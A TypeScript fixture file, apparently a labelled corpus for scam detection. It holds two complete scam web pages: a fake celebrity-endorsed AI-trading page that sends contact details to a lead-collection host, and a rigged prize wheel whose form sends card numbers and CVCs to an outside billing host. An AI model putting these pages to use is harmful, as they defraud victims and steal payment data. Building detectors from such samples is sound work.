import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Giveaway, investment, prize and shop scams rendered from JSON.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(v) });

export const entries: Entry[] = [
  {
    id: 'c-scam-investment-quantum',
    label: 'scam',
    kind: 'scam',
    url: 'https://quantum-ai-invest.co.uk/lp/bbc-news-uk/',
    body: raw`<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Quantum AI – Official Site</title><link rel="stylesheet" href="/lp/s.css"></head>
<body><header class="hd">Quantum <b>AI</b></header><main id="main"><p class="ld">Loading…</p></main><script src="/lp/lp.js"></script></body></html>`,
    routes: {
      'quantum-ai-invest.co.uk/lp/s.css': { status: 200, headers: { 'content-type': 'text/css' }, body: 'body{margin:0;font-family:Arial,sans-serif;background:#f7f9fc;color:#1d2a3a}.hd{background:#0d1b2a;color:#fff;padding:16px 24px;font-size:22px}.hd b{color:#4cc9f0}main{max-width:980px;margin:0 auto;padding:20px;display:grid;grid-template-columns:1.3fr 1fr;gap:24px}.frm{background:#fff;border-radius:10px;padding:22px;box-shadow:0 4px 16px #0001;position:sticky;top:10px;align-self:start}.frm input{width:100%;padding:12px;border:1px solid #cfd8e3;border-radius:6px;margin:6px 0;box-sizing:border-box}.frm button{width:100%;background:#2ecc71;color:#fff;border:0;border-radius:6px;padding:14px;font-size:17px;font-weight:700}.q{background:#fff;border-left:4px solid #4cc9f0;padding:12px;margin:12px 0}.cnt{color:#e63946;font-weight:700}' },
      'quantum-ai-invest.co.uk/lp/lp.js': js(raw`(async()=>{
const d=await fetch('/lp/data.json').then(r=>r.json());
const m=document.getElementById('main');
m.innerHTML='<section><h1>'+d.h1+'</h1><p>'+d.lead+'</p>'+d.quotes.map(q=>'<div class="q">&ldquo;'+q.t+'&rdquo;<br><small>— '+q.n+', '+q.c+' · earned <b>£'+q.e.toLocaleString()+'</b></small></div>').join('')+'<h3>How it works</h3><ol>'+d.steps.map(s=>'<li>'+s+'</li>').join('')+'</ol><p style="font-size:11px;color:#888">'+d.small+'</p></section><aside class="frm"><h2>'+d.form.h+'</h2><p>Only <span class="cnt" id="sp">'+d.form.spots+'</span> places left today</p><form id="f"><input name="first" placeholder="First name" required><input name="last" placeholder="Last name" required><input name="email" type="email" placeholder="Email" required><input name="phone" placeholder="+44 Phone number" required><button>'+d.form.btn+'</button></form><p style="font-size:12px">Minimum deposit £250. Our account manager will call you within 15 minutes.</p></aside>';
let n=d.form.spots;setInterval(()=>{if(n>3)document.getElementById('sp').textContent=--n},7000);
document.getElementById('f').onsubmit=async e=>{e.preventDefault();const fd=Object.fromEntries(new FormData(e.target));fd.aff='bbcuk-72';fd.country='GB';await fetch(d.crm,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(fd)}).catch(()=>0);location.href=d.next};
})();`),
      'quantum-ai-invest.co.uk/lp/data.json': json({
        h1: 'Martin Lewis reveals how ordinary Britons are earning £1,300 a day from home', lead: 'The financial expert was asked live on air how families can cope with rising bills. His answer: an AI trading platform with a 92% success rate, built by a former Goldman Sachs engineer. The banks want this stopped.',
        quotes: [{ t: 'I was sceptical but after 3 weeks I had paid off my credit card.', n: 'Sarah P.', c: 'Leeds', e: 14870 }, { t: 'Withdrew my first profits after 6 days. Life-changing.', n: 'Tom H.', c: 'Bristol', e: 32410 }, { t: 'The account manager set everything up for me over AnyDesk.', n: 'Julie R.', c: 'Glasgow', e: 9120 }],
        steps: ['Register for free below', 'Fund your account with the £250 minimum deposit', 'Let the AI trade for you — withdraw anytime'],
        form: { h: 'Start earning today', spots: 17, btn: 'REGISTER NOW' }, crm: 'https://trk.leadbox-crm.io/api/lead?offer=qai', next: '/lp/thanks.html',
        small: 'As seen on BBC, ITV, Sky News and The Guardian.',
      }),
    },
  },
  {
    id: 'c-scam-prize-wheel',
    label: 'scam',
    kind: 'scam',
    url: 'https://prize-winner-today.club/?sub=chrome&lang=en',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Congratulations!</title>
<style>body{margin:0;font-family:Arial,sans-serif;background:#f2f2f2;text-align:center}.hd{background:#fff;padding:10px;font-size:14px;color:#555}.c{max-width:520px;margin:16px auto;background:#fff;border-radius:10px;padding:20px}.wh{width:260px;height:260px;border-radius:50%;margin:20px auto;background:conic-gradient(#e74c3c 0 45deg,#f1c40f 0 90deg,#2ecc71 0 135deg,#3498db 0 180deg,#9b59b6 0 225deg,#1abc9c 0 270deg,#e67e22 0 315deg,#34495e 0);transition:transform 4s cubic-bezier(.1,.7,.2,1)}.bt{background:#27ae60;color:#fff;border:0;border-radius:6px;padding:14px 30px;font-size:18px;font-weight:700;cursor:pointer}.frm input{width:100%;padding:11px;border:1px solid #ccc;border-radius:5px;margin:5px 0;box-sizing:border-box}.cm{text-align:left;font-size:13px;border-top:1px solid #eee;padding:10px 0}</style></head>
<body><div class="hd" id="hd"></div><div class="c" id="c"></div>
<script>
var today = new Date().toLocaleDateString('en-US', { weekday: 'long', month: 'long', day: 'numeric', year: 'numeric' });
var browser = /Edg/.test(navigator.userAgent) ? 'Edge' : /Firefox/.test(navigator.userAgent) ? 'Firefox' : /Safari/.test(navigator.userAgent) && !/Chrome/.test(navigator.userAgent) ? 'Safari' : 'Chrome';
document.getElementById('hd').textContent = today;
var c = document.getElementById('c');
c.innerHTML = '<h2>Congratulations, ' + browser + ' user!</h2><p>You have been randomly selected to take part in our annual loyalty survey. Spin the wheel for a chance to win an <b>iPhone 15 Pro</b>, <b>Samsung Galaxy S24</b> or a <b>$1,000 Amazon gift card</b>.</p><div class="wh" id="wh"></div><button class="bt" id="sp">SPIN</button><div id="cm"></div>';
var comments = [['Jennifer K.', 'I received my iPhone yesterday!! Only paid for shipping 😍'], ['Mike D.', 'Thought it was a joke but it is real, thanks!'], ['Olga S.', 'My gift card arrived in 4 days']];
document.getElementById('cm').innerHTML = comments.map(function (x) { return '<div class="cm"><b>' + x[0] + '</b><br>' + x[1] + '</div>'; }).join('');
var spins = 0;
document.getElementById('sp').onclick = function () {
  spins++;
  document.getElementById('wh').style.transform = 'rotate(' + (spins === 1 ? 1440 + 100 : 2880 + 200) + 'deg)';
  setTimeout(function () {
    if (spins === 1) { alert('So close! You have 1 more try.'); return; }
    c.innerHTML = '<h2>🎉 You won an iPhone 15 Pro!</h2><p>Enter your shipping details. Pay only the shipping fee of <b>$2.95</b>. Your prize is reserved for <b id="t">4:59</b>.</p><form class="frm" id="f"><input name="name" placeholder="Full name"><input name="address" placeholder="Address"><input name="email" placeholder="Email"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button class="bt">Pay $2.95 and claim</button></form><p style="font-size:10px;color:#999">By submitting you agree to a trial membership of $89.95/month after 14 days unless cancelled.</p>';
    var s = 299; setInterval(function () { s = Math.max(0, s - 1); document.getElementById('t').textContent = Math.floor(s / 60) + ':' + ('0' + s % 60).slice(-2); }, 1000);
    document.getElementById('f').onsubmit = function (e) { e.preventDefault(); fetch('https://offers-billing.gateway-pay.cc/charge', { method: 'POST', body: new FormData(this) }); this.innerHTML = '<p>Processing…</p>'; };
  }, 4200);
};
</script></body></html>`,
  },
];
